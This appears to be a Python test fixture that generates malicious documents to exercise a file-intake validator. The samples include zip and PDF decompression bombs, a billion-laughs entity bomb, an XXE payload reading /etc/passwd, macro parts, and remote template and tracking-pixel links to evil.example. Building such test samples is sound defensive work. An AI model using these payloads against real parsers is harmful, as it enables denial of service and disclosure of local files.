"""Makes files that must not come in: bombs, tricks, damage, wrong types."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib

from tests.samples.word_files import MAIN_TYPE, document_xml, docx, p, relation, relations, zipped

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MEGABYTE = 1024 * 1024


def with_stored_zeros(name: str, megabytes: int) -> bytes:
    """A Word file with one member of zeros."""
    return docx(p("text"), extra={name: b"\0" * (megabytes * MEGABYTE)})


def many_paragraphs(count: int) -> bytes:
    return docx(document=document_xml("<w:p/>" * count))


def many_entries(count: int) -> bytes:
    return docx(p("text"), extra={f"word/media/{number}.png": b"" for number in range(count)})


def announcing_millions_of_entries() -> bytes:
    """An archive whose directory alone has tens of megabytes."""
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 900_000
    start = b"PK\x03\x04" + b"\0" * 26
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 999, 999, len(directory), len(start), 0)
    return start + directory + end


def nested_archives(depth: int) -> bytes:
    inner = zipped({"text.txt": "innermost"})
    for level in range(depth):
        inner = zipped({f"{level}.zip": inner})
    return docx(p("text"), extra={"word/embeddings/oleObject1.bin": inner})


def nested_bomb() -> bytes:
    """An embedded archive that is small and announces 210 MB."""
    inner = zipped({f"{number}.bin": b"\0" * (70 * MEGABYTE) for number in range(3)})
    return docx(p("text"), extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": inner})


def with_duplicate_main() -> bytes:
    out = io.BytesIO(docx(p("what the reviewer sees")))
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", document_xml(p("what the author meant")))
    return out.getvalue()


def billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return docx(document=f"<!DOCTYPE d [{entities}]>" + document_xml(p("&a9;")))


def external_entity(encoding: str = "utf-8") -> bytes:
    xml = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    data = (xml + document_xml(p("&x;"))).encode(encoding)
    members = {info.filename: content for info, content in _members(docx(p("x")))}
    return zipped({**members, "word/document.xml": data})


def with_macros(*, main_type: str = MAIN_TYPE, part: str = "word/vbaProject.bin") -> bytes:
    return docx(p("text"), extra={part: OLE_MAGIC + b"macro"}, main_type=main_type)


def with_external_links() -> bytes:
    settings = relations(relation("rId1", "attachedTemplate", "https://evil.example/t.dotm", external=True))
    return docx(
        p("text"),
        links=[
            relation("rId8", "image", "https://evil.example/pixel.png", external=True),
            relation("rId9", "hyperlink", "https://example.org", external=True),
        ],
        extra={"word/_rels/settings.xml.rels": settings},
    )


def old_office(stream: str) -> bytes:
    return OLE_MAGIC + b"\0" * 504 + stream.encode("utf-16-le") + b"\0" * 2048


def excel() -> bytes:
    return docx(main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")


def open_document() -> bytes:
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}, method=0)


def pdf(*objects: bytes, end: bool = True) -> bytes:
    """A PDF of these objects, the first of which is the catalogue."""
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table
    out += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(objects) + 1)
    return out + (b"startxref\n%d\n%%%%EOF\n" % xref if end else b"")


def pdf_with_stream(packed: bytes, filters: bytes) -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>",
        b"<</Length %d/Filter%s>>stream\n" % (len(packed), filters) + packed + b"\nendstream",
    )


def pdf_flate_bomb(megabytes: int, *, twice: bool = False) -> bytes:
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(b"\0" * MEGABYTE) for _ in range(megabytes)) + packer.flush()
    return (
        pdf_with_stream(zlib.compress(packed, 9), b"[/FlateDecode/Fl#61teDecode]")
        if twice
        else pdf_with_stream(packed, b"/FlateDecode")
    )


def pdf_lzw_bomb() -> bytes:
    """Codes 258, 259, 260 ...: each one letter longer than the one before, then the longest again and again."""
    codes = [256, 0, *range(258, 4096)] + [4095] * 90_000
    bits, held, width, size, out = 0, 0, 9, 258, bytearray()
    for code in codes:
        held, bits = held << width | code, bits + width
        while bits >= 8:
            bits -= 8
            out.append(held >> bits & 0xFF)
        held &= (1 << bits) - 1
        size = 257 if code == 256 else min(size + 1, 4096)
        width = min(12, max(9, (size + 1).bit_length()))
    out.append(held << (8 - bits) & 0xFF)
    return pdf_with_stream(bytes(out), b"/LZWDecode")


def pdf_page_loop() -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 5>>",
        b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 2 0 R]/Count 5>>",
    )


def pdf_of_a_billion_pages() -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>",
    )


def _members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info, archive.read(info)) for info in archive.infolist()]
